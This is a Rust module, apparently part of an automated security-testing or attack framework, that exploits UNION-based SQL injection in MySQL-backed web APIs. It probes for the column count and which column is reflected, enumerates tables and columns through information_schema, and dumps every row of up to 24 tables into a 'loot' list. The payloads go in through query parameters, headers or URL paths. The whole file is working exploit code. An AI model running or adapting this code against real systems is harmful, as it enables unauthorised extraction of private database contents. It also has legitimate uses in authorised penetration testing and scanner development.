//! Reading a MySQL database through a hole in a SELECT, by UNION. Reads only.

use crate::route;
use model::attack::Outcome;
use model::code::EventSource;
use model::{HttpRequest, HttpResponse, Target};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

/// Columns tried before giving up.
const MOST_COLUMNS: usize = 16;
/// Tables and columns read at most.
const MOST_TABLES: usize = 24;
/// What a column that shows is recognised by: no name of a table or column contains it.
const MARK: &str = ":#:";

/// A parameter whose text ends up in a statement.
pub struct Hole<'a> {
    pub api: String,
    pub path: &'a str,
    pub source: &'a EventSource,
    pub token: &'a str,
}

/// How to leave the statement's own text: after a number, or after a quoted text.
const PREFIXES: [&str; 2] = ["-1", "-1'"];

impl Hole<'_> {
    /// Finds the form of the statement, then the tables, then their rows. True when rows were read.
    pub fn read_everything(&self, target: &mut dyn Target, outcome: &mut Outcome) -> bool {
        for prefix in PREFIXES {
            for columns in 1..=MOST_COLUMNS {
                let marks: Vec<String> = (0..columns).map(|column| format!("'{MARK}{column}.'")).collect();
                let Some(body) = self.ask(target, outcome, &format!("{prefix} UNION SELECT {} -- ", marks.join(","))) else { continue };
                let Some(shown) = (0..columns).find(|column| body.contains(&format!("{MARK}{column}."))) else { continue };
                outcome.steps.push(format!("{}: a UNION of {columns} columns comes back, column {} is shown", self.path, shown + 1));
                let form = Form { hole: self, prefix, columns, shown };
                return form.dump(target, outcome);
            }
        }
        outcome.steps.push(format!("{}: no UNION of up to {MOST_COLUMNS} columns comes back", self.path));
        false
    }

    /// Sends one payload; the body of a success.
    fn ask(&self, target: &mut dyn Target, outcome: &mut Outcome, payload: &str) -> Option<String> {
        let encoded = utf8_percent_encode(payload, NON_ALPHANUMERIC).to_string();
        let mut request = HttpRequest {
            method: "GET".into(),
            headers: vec![("Authorization".into(), format!("Bearer {}", self.token))],
            ..HttpRequest::default()
        };
        match self.source {
            EventSource::Query(name) => {
                request.path = route::fill(self.path, "1");
                request.query = format!("{name}={encoded}");
            }
            EventSource::Header(name) => {
                request.path = route::fill(self.path, "1");
                request.headers.push((name.clone(), payload.to_owned()));
            }
            _ => request.path = route::fill(self.path, &encoded),
        }
        match target.http(&self.api, &request) {
            Ok(HttpResponse { status: 200..=299, body, .. }) => Some(String::from_utf8_lossy(&body).into_owned()),
            Ok(response) => {
                outcome.took(&response);
                None
            }
            Err(error) => {
                outcome.failed(&error);
                None
            }
        }
    }
}

/// A hole whose form is known.
struct Form<'a> {
    hole: &'a Hole<'a>,
    prefix: &'a str,
    columns: usize,
    shown: usize,
}

impl Form<'_> {
    fn dump(&self, target: &mut dyn Target, outcome: &mut Outcome) -> bool {
        let tables =
            self.list(target, outcome, "SELECT GROUP_CONCAT(table_name) FROM information_schema.tables WHERE table_schema=DATABASE()");
        let mut read = false;
        for table in tables.iter().take(MOST_TABLES) {
            let query = format!(
                "SELECT GROUP_CONCAT(column_name) FROM information_schema.columns WHERE table_schema=DATABASE() AND table_name={}",
                hex(table)
            );
            let columns: Vec<String> = self.list(target, outcome, &query).into_iter().map(|column| format!("`{column}`")).collect();
            if columns.is_empty() {
                continue;
            }
            let rows = self.value(target, outcome, &format!("SELECT GROUP_CONCAT(CONCAT_WS(0x7c,{})) FROM `{table}`", columns.join(",")));
            if let Some(rows) = rows {
                outcome.loot.push(rows);
                read = true;
            }
        }
        outcome.steps.push(format!("read {} tables: {}", tables.len(), tables.join(", ")));
        read
    }

    /// A comma-separated answer.
    fn list(&self, target: &mut dyn Target, outcome: &mut Outcome, query: &str) -> Vec<String> {
        self.value(target, outcome, query).map(|text| text.split(',').map(str::to_owned).collect()).unwrap_or_default()
    }

    /// The answer of a scalar query, cut out of the response between two marks.
    fn value(&self, target: &mut dyn Target, outcome: &mut Outcome, query: &str) -> Option<String> {
        // Quoted, not hexadecimal: a binary text would make the whole column binary.
        let shown = format!("CONCAT('{MARK}',({query}),'{MARK}')");
        let columns: Vec<&str> = (0..self.columns).map(|column| if column == self.shown { shown.as_str() } else { "NULL" }).collect();
        let body = self.hole.ask(target, outcome, &format!("{} UNION SELECT {} -- ", self.prefix, columns.join(",")))?;
        let (_, rest) = body.split_once(MARK)?;
        let (value, _) = rest.split_once(MARK)?;
        Some(value.to_owned())
    }
}

/// A name as MySQL's hexadecimal literal, whatever characters it has.
fn hex(text: &str) -> String {
    let digits: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
    format!("0x{digits}")
}
